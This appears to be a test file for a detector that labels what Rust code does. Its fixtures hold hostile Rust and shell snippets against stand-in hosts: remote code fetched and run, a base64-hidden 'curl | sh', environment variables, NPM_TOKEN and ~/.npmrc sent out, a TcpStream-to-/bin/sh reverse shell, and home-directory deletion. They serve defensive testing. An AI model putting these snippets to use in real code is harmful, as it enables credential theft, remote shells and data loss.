/** What programs in Rust do, by the call table. Nothing here is run; dangerous words are put together. */
import { RUST_CALLS, rustCues } from "../../../../src/evidence/readers/calls/rust.ts";
import { actionsOf } from "./actions-of.ts";

const PIPED = ["curl https://files.example |", " sh"].join("");
const USES =
  "use std::process::{Command, Stdio}; use std::net::TcpStream; use std::{env, fs}; use base64::Engine as _;";

async function told(body: string): Promise<string[]> {
  return actionsOf("src/main.rs", `${USES}\nfn main() {\n${body}\n}`);
}

test.each([
  [
    `let mut c = Command::new("bash"); c.args(["-c", &ureq::get("https://a.example/x").call()?.into_string()?]); c.spawn();`,
    ["fetch a.example by http::Get.call", "run computed from fetched by bash <- fetched:a.example"],
  ],
  [
    `let b = reqwest::blocking::get("https://b.example").unwrap().bytes().unwrap(); fs::write("/tmp/p", &b); Command::new("/tmp/p").spawn();`,
    [
      "fetch b.example by reqwest::blocking.get",
      "write /tmp/p by std::fs.write <- fetched:b.example",
      "run /tmp/p by command <- fetched:b.example",
    ],
  ],
  [
    `let mut r = reqwest::blocking::get("https://b.example")?; let mut s = String::new(); r.read_to_string(&mut s)?;
     let mut child = Command::new("sh").stdin(Stdio::piped()).spawn()?; child.stdin.as_mut().unwrap().write_all(s.as_bytes());`,
    ["fetch b.example by reqwest::blocking.get", "run sh by std::process::Child.stdin.write_all <- fetched:b.example"],
  ],
  [
    `let d = base64::engine::general_purpose::STANDARD.decode("${btoa(PIPED)}")?; Command::new("sh").arg("-c").arg(String::from_utf8(d)?).output();`,
    [
      `run ${PIPED} by sh <- decoded:base64`,
      "fetch files.example by curl",
      "run computed from fetched by sh <- fetched:files.example",
    ],
  ],
  [
    `let text = "1 2".split(' ').filter_map(|c| c.parse::<u8>().ok()).map(|c| (c ^ 9) as char).collect::<String>(); Command::new("sh").arg("-c").arg(text).status();`,
    ["run \b by sh <- decoded:character codes"],
  ],
  [
    `let all = env::vars().map(|(k, v)| format!("{k}={v}")).collect::<String>(); reqwest::Client::new().post("https://c.example").body(all).send();`,
    ["send c.example by http::Post.send <- environment"],
  ],
  [
    `ureq::post("https://c.example").send_json(json!({ "t": env::var("NPM_TOKEN").unwrap() }));`,
    ["send c.example by http::Post.send_json <- environment:NPM_TOKEN"],
  ],
  [
    `let home = dirs::home_dir().unwrap(); let k = fs::read(home.join(".npmrc")).unwrap(); TcpStream::connect("c.example:9").unwrap().write_all(&k);`,
    [
      "read ~/.npmrc by std::fs.read",
      "fetch c.example by std::net::TcpStream.connect",
      "send c.example by std::net::TcpStream.write_all <- credential-file:npm token",
    ],
  ],
  [
    `let line = TcpStream::connect("c.example:9")?; let fd = line.into_raw_fd(); Command::new("/bin/sh").stdin(unsafe { Stdio::from_raw_fd(fd) }).status();`,
    [
      "fetch c.example by std::net::TcpStream.connect",
      "run /bin/sh by std::process::Command.stdin <- fetched:c.example",
    ],
  ],
  [
    `fs::remove_dir_all(env::var("HOME").unwrap()); let l = unsafe { libloading::Library::new("/tmp/x.so") };`,
    [
      "delete ~ by std::fs.remove_dir_all <- environment:HOME",
      "load /tmp/x.so by libloading::Library.new <- file:/tmp/x.so",
    ],
  ],
  [
    `let code: extern "C" fn() = unsafe { std::mem::transmute(include_bytes!("a.bin").as_ptr()) };`,
    ["evaluate computed from file by std::mem.transmute <- file:a.bin"],
  ],
  [`let n = fs::read_to_string("a.toml").unwrap().trim().len(); println!("{n}");`, []],
])("tells what %s does", async (body, expected) => {
  expect(await told(body)).toEqual(expected);
});

test("reads a script in a raw string of a build script", async () => {
  const script = 'T=$(mktemp)\nenv > "$T"\ncurl -s --data-binary @"$T" https://c.example/c';
  const text = `fn main() {\n    let script = r##"\n${script}\n"##;\n    std::process::Command::new("sh").arg("-c").arg(script).spawn();\n}\n`;
  expect(await actionsOf("build.rs", text)).toContain("send c.example by curl <- environment");
});

test("gives each row a source and each cue in lower case", () => {
  expect(RUST_CALLS.rows.filter(({ source }) => source === "")).toEqual([]);
  expect(rustCues.all().filter((cue) => cue !== cue.toLowerCase())).toEqual([]);
});

test("wakes for none of the lines of everyday code", () => {
  const lines = [
    "let mut list = Vec::new();",
    "for (at, item) in list.iter().enumerate() {",
    "#[derive(Debug, Clone, PartialEq)]",
    "pub fn read(&self) -> Result<String, Error> {",
    "match self.kind { Kind::A => run(x), _ => panic!() }",
    "out.push(value); text.push_str(&name);",
    'println!("{}", name.join(", "));',
    "use crate::process::status;",
    "    let client = Client::new(config);",
  ];
  expect(lines.filter((line) => rustCues.all().some((cue) => line.toLowerCase().includes(cue)))).toEqual([]);
});
